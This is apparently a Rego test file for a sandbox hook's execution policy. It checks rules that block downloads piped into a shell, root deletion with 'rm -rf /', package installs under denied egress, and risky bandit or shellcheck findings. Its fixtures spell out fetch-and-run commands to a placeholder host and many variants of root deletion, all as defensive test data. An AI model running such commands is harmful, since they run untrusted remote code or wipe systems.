package sandboxio.exec_test

import data.sandboxio.exec
import data.sandboxio.fixtures as fx

# The documents below are what the hook builds in Go (internal/execscan):
# the call's simple commands after unwrapping and parsing, the code found
# and what could not be read. The Go tests (internal/execscan,
# sandbox/hook_test.go) show that a script or an argv reads as these.
base := {
	"input_version": 1,
	"kind": "exec",
	"address": "exec/python/acme/s-42",
	"exec": {"op": "run", "argv": [], "language": "", "code": "", "commands": [], "sources": [], "unanalysed": []},
	"template": {"name": "python"},
	"tenant": {"tenant_id": "acme", "session_id": "s-42"},
	"backend": {"scheme": "docker"},
	"network": {"egress": "deny", "allow": []},
	"analysers": {},
}

# lit is a literal word; its clean path is itself unless given (litc).
lit(v) := {"value": v, "literal": true, "glob": false, "clean": v}

litc(v, clean) := {"value": v, "literal": true, "glob": false, "clean": clean}

glob(v) := {"value": v, "literal": true, "glob": true, "clean": v}

computed(v) := {"value": v, "literal": false, "glob": false}

# cmdw is a command with these words; cmd one with literal arguments.
cmdw(name, words) := {
	"name": name, "word": name, "literal": true, "args": [w.value | some w in words], "words": words,
	"wrappers": [], "args_from_stdin": false, "pipeline": 0, "position": 0, "stages": 1, "redirects": [],
	"subst": -1, "source": -1,
}

cmd(name, args) := cmdw(name, [lit(a) | some a in args])

# at puts a command at a stage of a pipeline.
at(c, pipeline, position) := object.union(c, {"pipeline": pipeline, "position": position, "stages": max([position + 1, 2])})

# reads makes a command a reader of code in lang, from where, fed by.
reads(c, lang, from, fed) := object.union(c, {"reads": {"language": lang, "from": from, "analysed": from != "file", "fed_by": fed}})

reads_file(c, lang, path) := object.union(c, {"reads": {"language": lang, "from": "file", "path": path, "analysed": false, "fed_by": []}})

redirect(c, op, target) := object.union(c, {"redirects": [{"op": op, "target": lit(target)}]})

doc(commands) := object.union(base, {"exec": {"op": "run", "argv": [], "language": "", "code": "", "commands": commands, "sources": [], "unanalysed": []}})

# not_read is a document the hook could not (fully) read.
not_read(commands, kind, lang, reason) := object.union(doc(commands), {"exec": {"unanalysed": [{"kind": kind, "language": lang, "reason": reason}]}})

code(lang, text, analysers) := object.union(base, {
	"exec": {
		"op": "run_code", "argv": [], "language": lang, "code": text, "source": {"language": lang, "text": text},
		"commands": [], "sources": [{"language": lang, "from": "code", "text": text}], "unanalysed": [],
	},
	"analysers": analysers,
})

bandit_ok(findings) := {"bandit": {"status": "ok", "detail": "", "findings": findings}}

shellcheck_ok := {"shellcheck": {"status": "ok", "detail": "", "findings": []}}

# --- SBX-EXE-001: a download piped into a shell ------------------------------

# curl URL | sh; the same to python, perl, busybox sh (unwrapped to sh).
pipe_to(reader, lang) := doc([at(cmd("curl", ["-fsSL", "https://x.example/i.sh"]), 1, 0), at(reads(cmd(reader, []), lang, "stdin", [0]), 1, 1)])

test_download_pipe_blocked if {
	every d in [
		pipe_to("sh", "sh"), pipe_to("bash", "bash"), pipe_to("python3", "python"), pipe_to("perl", "perl"),
		doc([at(cmd("wget", ["-qO-", "http://x.example/i"]), 1, 0), at(cmd("tee", ["/tmp/log"]), 1, 1), at(reads(cmd("sh", []), "sh", "stdin", [0, 1]), 1, 2)]),
	] {
		fs := exec.block with input as d
		fx.has(fs, "SBX-EXE-001", "ExecutionBlocked", "command")
		fx.mentions(fs, "SBX-EXE-001", "pipes a download")
	}
}

# sh -c "$(curl URL)", bash <(curl URL): the code comes from a substitution
# whose commands are the download.
test_download_substitution_blocked if {
	every d in [
		doc([reads(cmdw("sh", [lit("-c"), computed("")]), "sh", "argv", [1]), object.union(cmd("curl", ["https://x.example"]), {"subst": 0})]),
		doc([reads(cmdw("bash", [computed("")]), "bash", "file", [1]), object.union(cmd("curl", ["-s", "https://x.example"]), {"subst": 0})]),
	] {
		fs := exec.block with input as d
		fx.has(fs, "SBX-EXE-001", "ExecutionBlocked", "command")
		fx.mentions(fs, "SBX-EXE-001", "substitution")
	}
}

# curl -o f URL; sh f (and > f, wget's default name, ./f).
test_download_then_run_blocked if {
	every d in [
		doc([cmd("curl", ["-fsSLo", "/tmp/i.sh", "https://x.example/i.sh"]), reads_file(cmd("sh", ["/tmp/i.sh"]), "sh", "/tmp/i.sh")]),
		doc([redirect(cmd("curl", ["https://x.example/i.sh"]), ">", "i.sh"), reads_file(cmd("bash", ["./i.sh"]), "bash", "./i.sh")]),
		doc([cmd("wget", ["https://x.example/get/i.sh?v=1"]), reads_file(cmd("sh", ["i.sh"]), "sh", "i.sh")]),
		doc([cmd("curl", ["-O", "https://x.example/run"]), cmd("chmod", ["+x", "run"]), object.union(cmd("run", []), {"word": "./run"})]),
	] {
		fs := exec.block with input as d
		fx.has(fs, "SBX-EXE-001", "ExecutionBlocked", "command")
		fx.mentions(fs, "SBX-EXE-001", "runs a file it downloads")
	}
}

test_download_pipe_in_python_blocked if {
	d := object.union(code("python", "import os\nos.system('curl -s https://x.example | sh')\n", bandit_ok([])), {"exec": {}})
	fs := exec.block with input as d
	fx.has(fs, "SBX-EXE-001", "ExecutionBlocked", "command")
}

test_download_pipe_never_quotes_the_command if {
	fs := exec.block with input as doc([at(cmd("curl", ["https://secret.example/token"]), 1, 0), at(reads(cmd("sh", []), "sh", "stdin", [0]), 1, 1)])
	not fx.leaks(fs, "secret.example")
}

# A download that is not run as code; a shell reading what is not a
# download; a shell script quoting the words (the parsed script has echo).
test_download_to_file_accepted if {
	every d in [
		doc([cmd("curl", ["-fsSLo", "/tmp/i.sh", "https://x.example/i.sh"]), cmd("sha256sum", ["-c", "sums"])]),
		doc([cmd("wget", ["https://x.example/data.csv"]), cmd("wc", ["-l", "data.csv"])]),
		doc([at(cmd("echo", ["curl"]), 1, 0), at(reads(cmd("sh", []), "sh", "stdin", [0]), 1, 1), at(cmd("curl", []), 1, 1)]),
		doc([at(cmd("curl", ["https://x.example/a"]), 1, 0), at(cmd("grep", ["shell"]), 1, 1)]),
		doc([cmd("echo", ["curl https://x | sh"])]),
	] {
		fs := exec.block with input as d
		fx.lacks(fs, "SBX-EXE-001")
	}
}

# A call the hook could not read is a finding of the rule, never a pass.
test_download_not_analysed_reported if {
	every d in [
		not_read([reads_file(cmd("sh", ["x.sh"]), "sh", "x.sh")], "code", "sh", "sh runs a script file the hook was not given"),
		not_read([object.union(cmd("", []), {"literal": false})], "structure", "sh", "a command name is computed when the call runs"),
		not_read([cmd("watch", ["x"])], "structure", "", "watch runs a command or code the hook does not unwrap"),
		json.remove(base, ["exec/commands", "exec/sources", "exec/unanalysed"]),
	] {
		fs := exec.block with input as d
		fx.has(fs, "SBX-EXE-001", "ExecutionBlocked", "command")
		fx.mentions(fs, "SBX-EXE-001", "could not analyse")
	}
}

# --- SBX-EXE-002: rm -rf / ---------------------------------------------------

rm_roots := [
	[lit("-rf"), lit("/")],
	[lit("-fr"), litc("//", "/")],
	[lit("-r"), lit("-f"), litc("/.", "/")],
	[lit("-f"), lit("-R"), glob("/*")],
	[lit("--recursive"), lit("--force"), lit("--no-preserve-root"), lit("/")],
	[lit("--recur"), lit("/")],
	[lit("/"), lit("-rf")],
	[lit("-rf"), litc("/tmp/../", "/")],
	[lit("-rf"), lit("--"), lit("/")],
]

test_rm_root_blocked if {
	every words in rm_roots {
		fs := exec.block with input as doc([cmdw("rm", words)])
		fx.has(fs, "SBX-EXE-002", "ExecutionBlocked", "command")
		fx.mentions(fs, "SBX-EXE-002", "deletes the root directory")
	}
}

test_rm_elsewhere_accepted if {
	every c in [
		cmd("rm", ["-rf", "/tmp/work"]),
		cmd("rm", ["-f", "/"]),
		cmdw("rm", [lit("-rf"), litc("./", ".")]),
		cmd("rm", ["-rf", "/tmp/x", "/var/tmp/y"]),
		cmd("echo", ["rm", "-rf", "/"]),
		cmd("grep", ["-r", "/"]),
		cmdw("rm", [lit("-f"), computed("/tmp/")]),
		cmd("rm", ["-rf", "--", "-/"]),
	] {
		fs := exec.block with input as doc([c])
		fx.lacks(fs, "SBX-EXE-002")
	}
}

test_rm_not_analysed_reported if {
	every d in [
		doc([cmdw("rm", [lit("-rf"), computed("")])]),
		doc([object.union(cmd("rm", ["-rf"]), {"args_from_stdin": true})]),
		doc([cmdw("rm", [computed("-"), lit("/")])]),
		not_read([], "code", "python", "python runs a script file the hook was not given"),
	] {
		fs := exec.block with input as d
		fx.has(fs, "SBX-EXE-002", "ExecutionBlocked", "command")
		fx.mentions(fs, "SBX-EXE-002", "could not analyse")
	}
}

# --- SBX-EXE-003: installing packages with egress denied ---------------------

module(c, m) := object.union(c, {"reads": {"language": "python", "from": "module", "path": m, "analysed": false, "fed_by": []}})

installs := [
	cmd("pip", ["install", "requests"]),
	cmd("pip3", ["-q", "install", "numpy==2.0"]),
	module(cmd("python3", ["-m", "pip", "install", "pandas"]), "pip"),
	cmd("apt-get", ["install", "-y", "curl"]),
	cmd("apk", ["add", "--no-cache", "git"]),
	cmd("npm", ["install", "left-pad"]),
	cmd("npm", ["ci"]),
	cmd("uv", ["pip", "install", "httpx"]),
	cmd("gem", ["install", "rails"]),
	cmd("go", ["install", "example.com/x@latest"]),
]

test_install_with_deny_blocked if {
	every c in installs {
		fs := exec.block with input as doc([c])
		fx.has(fs, "SBX-EXE-003", "ExecutionBlocked", "command")
		fx.mentions(fs, "SBX-EXE-003", "egress is deny")
	}
}

test_install_fix_names_both_patterns if {
	fs := exec.block with input as doc([cmd("pip", ["install", "x"])])
	fx.fix_mentions(fs, "SBX-EXE-003", "image")
	fx.fix_mentions(fs, "SBX-EXE-003", "--no-index")
}

test_install_with_open_egress_accepted if {
	fs := exec.block with input as doc([cmd("pip", ["install", "requests"])]) with input.network as {"egress": "allow", "allow": []}
	fx.lacks(fs, "SBX-EXE-003")
}

test_install_with_allow_list_accepted if {
	fs := exec.block with input as doc([cmd("pip", ["install", "requests"])]) with input.network as {"egress": "deny", "allow": ["151.101.0.0/16"]}
	fx.lacks(fs, "SBX-EXE-003")
}

test_offline_install_accepted if {
	every c in [
		cmd("pip", ["install", "--no-index", "--find-links", "/wheels", "requests"]),
		cmd("uv", ["pip", "install", "--offline", "--find-links", "/wheels", "x"]),
		cmd("pip", ["list"]),
		cmd("echo", ["pip", "install", "x"]),
	] {
		fs := exec.block with input as doc([c])
		fx.lacks(fs, "SBX-EXE-003")
	}
}

test_install_not_analysed_reported if {
	d := not_read([], "structure", "sh", "a command name is computed when the call runs")
	fs := exec.block with input as d
	fx.has(fs, "SBX-EXE-003", "ExecutionBlocked", "command")
	fx.mentions(fs, "SBX-EXE-003", "could not analyse")
	open := exec.block with input as d with input.network as {"egress": "allow", "allow": []}
	fx.lacks(open, "SBX-EXE-003")
}

# --- SBX-EXE-004: a high-severity bandit finding -----------------------------

test_bandit_high_requires_approval if {
	an := bandit_ok([
		{"id": "bandit:B404", "severity": "low", "confidence": "high", "line": 1},
		{"id": "bandit:B602", "severity": "high", "confidence": "high", "line": 2},
	])
	fs := exec.require_approval with input as code("python", "import subprocess", an)
	fx.has(fs, "SBX-EXE-004", "ApprovalRequired", "code")
	fx.mentions(fs, "SBX-EXE-004", "bandit:B602")
	not fx.mentions(fs, "SBX-EXE-004", "B404")
	not fx.leaks(fs, "import subprocess")
}

test_bandit_low_only_accepted if {
	an := bandit_ok([{"id": "bandit:B404", "severity": "low", "confidence": "high", "line": 1}])
	fs := exec.require_approval with input as code("python", "import subprocess", an)
	fx.lacks(fs, "SBX-EXE-004")
}

test_bandit_not_run_requires_approval if {
	every an in [
		{},
		{"bandit": {"status": "missing", "detail": "bandit is not installed", "findings": []}},
		{"bandit": {"status": "timeout", "detail": "", "findings": []}},
		{"bandit": {"status": "failed", "detail": "syntax error", "findings": []}},
	] {
		fs := exec.require_approval with input as code("python", "print(1)", an)
		fx.has(fs, "SBX-EXE-004", "ApprovalRequired", "code")
		fx.mentions(fs, "SBX-EXE-004", "cannot be ruled out")
	}
}

# python script.py, python -m mod, python reading a pipe: Python code the
# hook was not given.
test_bandit_python_not_given_requires_approval if {
	every d in [
		not_read([reads_file(cmd("python3", ["job.py"]), "python", "job.py")], "code", "python", "python runs a script file the hook was not given"),
		not_read([], "code", "", "the call runs a file by its path, which may be a script the hook was not given"),
	] {
		fs := exec.require_approval with input as d
		fx.has(fs, "SBX-EXE-004", "ApprovalRequired", "code")
		fx.mentions(fs, "SBX-EXE-004", "could not analyse")
	}
	fs := exec.require_approval with input as not_read([], "code", "sh", "sh runs a script file the hook was not given")
	fx.lacks(fs, "SBX-EXE-004")
}

test_bandit_not_needed_for_other_languages if {
	fs := exec.require_approval with input as code("node", "console.log(1)", {})
	fx.lacks(fs, "SBX-EXE-004")
	fx.lacks(fs, "SBX-EXE-005")
}

# --- SBX-EXE-005: shellcheck errors ------------------------------------------

test_shellcheck_error_requires_approval if {
	an := {"shellcheck": {"status": "ok", "detail": "", "findings": [
		{"id": "shellcheck:SC1073", "severity": "error", "confidence": "", "line": 1},
		{"id": "shellcheck:SC2086", "severity": "info", "confidence": "", "line": 2},
	]}}
	fs := exec.require_approval with input as code("sh", "if [", an)
	fx.has(fs, "SBX-EXE-005", "ApprovalRequired", "code")
	fx.mentions(fs, "SBX-EXE-005", "shellcheck:SC1073")
	not fx.mentions(fs, "SBX-EXE-005", "SC2086")
}

test_shellcheck_style_only_accepted if {
	an := {"shellcheck": {"status": "ok", "detail": "", "findings": [{"id": "shellcheck:SC2086", "severity": "info", "confidence": "", "line": 1}]}}
	fs := exec.require_approval with input as code("bash", "echo $1", an)
	fx.lacks(fs, "SBX-EXE-005")
}

test_shellcheck_not_run_requires_approval if {
	every an in [{}, {"shellcheck": {"status": "timeout", "detail": "", "findings": []}}] {
		fs := exec.require_approval with input as code("sh", "echo hi", an)
		fx.has(fs, "SBX-EXE-005", "ApprovalRequired", "code")
	}
}

# sh script.sh, sh reading a pipe: shell code the hook was not given.
test_shellcheck_script_not_given_requires_approval if {
	fs := exec.require_approval with input as not_read([reads_file(cmd("sh", ["x.sh"]), "sh", "x.sh")], "code", "sh", "sh runs a script file the hook was not given")
	fx.has(fs, "SBX-EXE-005", "ApprovalRequired", "code")
	fx.mentions(fs, "SBX-EXE-005", "could not analyse")
	ok := exec.require_approval with input as not_read([], "code", "python", "python runs a module the hook was not given")
	fx.lacks(ok, "SBX-EXE-005")

	# A computed command name: shellcheck did read the script.
	st := exec.require_approval with input as not_read([], "structure", "sh", "a command name is computed when the call runs")
	fx.lacks(st, "SBX-EXE-005")
}

# --- a plain call --------------------------------------------------------------

test_plain_calls_accepted if {
	every inp in [
		doc([cmd("echo", ["hello"])]),
		doc([cmd("ls", ["-la", "/"])]),
		object.union(doc([reads(cmd("sh", ["-c", "echo hello > /tmp/out && cat /tmp/out"]), "sh", "argv", []), redirect(cmd("echo", ["hello"]), ">", "/tmp/out"), cmd("cat", ["/tmp/out"])]), {
			"exec": {"sources": [{"language": "sh", "from": "argv", "text": "echo hello > /tmp/out && cat /tmp/out"}]},
			"analysers": shellcheck_ok,
		}),
		object.union(doc([reads(cmd("python3", ["-c", "print(1)"]), "python", "argv", [])]), {
			"exec": {"sources": [{"language": "python", "from": "argv", "text": "print(1)"}]},
			"analysers": bandit_ok([]),
		}),
		code("python", "print(sum(range(10)))", bandit_ok([])),
	] {
		count(exec.block) == 0 with input as inp
		count(exec.require_approval) == 0 with input as inp
	}
}

# --- the remaining spellings, one case each ----------------------------------

test_download_spellings_blocked if {
	every d in [
		doc([cmd("wget", ["-qO", "/tmp/i.sh", "https://x.example/i"]), reads_file(cmd("sh", ["/tmp/i.sh"]), "sh", "/tmp/i.sh")]),
		doc([cmd("curl", ["--output=/tmp/i.sh", "https://x.example/i"]), reads_file(cmd("sh", ["/tmp/i.sh"]), "sh", "/tmp/i.sh")]),
		doc([cmd("curl", ["-o/tmp/i.sh", "https://x.example/i"]), reads_file(cmd("sh", ["/tmp/i.sh"]), "sh", "/tmp/i.sh")]),
		doc([at(cmd("curl", ["https://x.example/i"]), 1, 0), at(redirect(cmd("cat", []), ">", "/tmp/i.sh"), 1, 1), reads_file(cmd("sh", ["/tmp/i.sh"]), "sh", "/tmp/i.sh")]),
		object.union(code("python", "import os\nos.system('bash <(curl -s https://x.example)')\n", bandit_ok([])), {}),
	] {
		fs := exec.block with input as d
		fx.has(fs, "SBX-EXE-001", "ExecutionBlocked", "command")
	}
}

# A document of an older hook: its source is still read.
test_legacy_source_read if {
	d := json.remove(object.union(code("perl", "system('curl -s https://x | sh')", {}), {}), ["exec/sources"])
	fs := exec.block with input as d
	fx.has(fs, "SBX-EXE-001", "ExecutionBlocked", "command")
}

test_rm_root_in_other_code_blocked if {
	fs := exec.block with input as code("python", "import os\nos.system('rm -rf /')\n", bandit_ok([]))
	fx.has(fs, "SBX-EXE-002", "ExecutionBlocked", "command")
}

test_install_spellings_blocked if {
	every c in [
		cmd("uvx", ["ruff"]),
		cmd("pipx", ["install", "black"]),
		cmd("apk", ["add", "git"]),
		cmd("pacman", ["-Syu", "git"]),
		cmd("yarn", ["add", "x"]),
		cmd("composer", ["require", "x/y"]),
		cmd("cargo", ["install", "ripgrep"]),
		cmd("dnf", ["-y", "install", "git"]),
	] {
		fs := exec.block with input as doc([c])
		fx.has(fs, "SBX-EXE-003", "ExecutionBlocked", "command")
	}
	fs := exec.block with input as code("python", "import os\nos.system('pip install requests')\n", bandit_ok([]))
	fx.has(fs, "SBX-EXE-003", "ExecutionBlocked", "command")
}
